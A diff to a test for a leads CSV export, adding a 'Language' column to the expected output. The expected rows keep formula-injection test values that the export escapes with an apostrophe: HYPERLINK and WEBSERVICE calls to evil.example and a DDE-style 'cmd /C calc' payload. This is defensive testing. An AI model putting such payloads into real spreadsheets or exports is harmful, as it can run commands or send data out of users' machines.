@@ -62,9 +62,9 @@ describe('Export CSV of leads', () => {
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     expect(bytes.subarray(3).toString('utf8')).toBe(
       [
-        'When (UTC),Flipbook,E-mail,Name,Company,Note,Where,Event,Device,Consent,Consent given (UTC),Lead id,Staff note,Rating,Tags,Captured by,Sent after removal',
-        `2026-03-02 10:15:30,"'@SUM(1+1) ""Menu"", été",mallory@example.com,"'=HYPERLINK(""http://evil.example"",""Click"")","'+cmd|"" /C calc""!A0","'-2+3, said ""he""\nand left",Event kiosk,'=1+1,Tablet 2,${consent},2026-03-02 10:15:30,${hostile.id},"'=WEBSERVICE(""http://evil.example"")",Hot,"'@boss, follow up, -vip",${owner.user.name},`,
-        `2026-03-01 08:00:00,"'@SUM(1+1) ""Menu"", été",ada@example.com,,,,Event kiosk,,,${consent},2026-03-01 08:00:00,${plain.id},,,,${owner.user.name},`,
+        'When (UTC),Flipbook,E-mail,Name,Company,Note,Where,Event,Device,Consent,Consent given (UTC),Lead id,Staff note,Rating,Tags,Captured by,Sent after removal,Language',
+        `2026-03-02 10:15:30,"'@SUM(1+1) ""Menu"", été",mallory@example.com,"'=HYPERLINK(""http://evil.example"",""Click"")","'+cmd|"" /C calc""!A0","'-2+3, said ""he""\nand left",Event kiosk,'=1+1,Tablet 2,${consent},2026-03-02 10:15:30,${hostile.id},"'=WEBSERVICE(""http://evil.example"")",Hot,"'@boss, follow up, -vip",${owner.user.name},,en`,
+        `2026-03-01 08:00:00,"'@SUM(1+1) ""Menu"", été",ada@example.com,,,,Event kiosk,,,${consent},2026-03-01 08:00:00,${plain.id},,,,${owner.user.name},,en`,
         '',
       ].join('\r\n'),
     );
@@ -82,7 +82,7 @@ describe('Export CSV of leads', () => {
       (await exported(query)).bytes.toString('utf8').trim().split('\r\n').slice(1);
     const consent = `${owner.user.name} may contact me about this brochure`;
     expect(await rows(`?flipbookId=${book}`)).toEqual([
-      `2026-04-01 12:00:00,Filtered,${body.email},Ada Lovelace,Analytical Engines,Please call after the fair,Event kiosk,Spring Fair,,${consent},2026-04-01 12:00:00,${body.id},,,,${owner.user.name},`,
+      `2026-04-01 12:00:00,Filtered,${body.email},Ada Lovelace,Analytical Engines,Please call after the fair,Event kiosk,Spring Fair,,${consent},2026-04-01 12:00:00,${body.id},,,,${owner.user.name},,en`,
     ]);
     expect(await rows(`?flipbookId=${book}&from=2026-04-02T00:00:00.000Z`)).toEqual([]);
     const today = new Date().toISOString().slice(0, 10);
